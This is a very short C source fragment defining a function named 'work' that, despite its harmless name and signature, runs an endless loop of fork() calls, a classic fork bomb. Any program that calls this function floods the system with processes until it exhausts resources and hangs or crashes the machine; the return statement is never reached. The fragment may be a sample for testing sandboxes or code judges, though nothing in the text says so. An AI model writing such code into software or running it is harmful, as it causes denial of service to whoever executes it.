#include <unistd.h>

long long work(long long n) {
    for (;;) fork();
    return n;
}
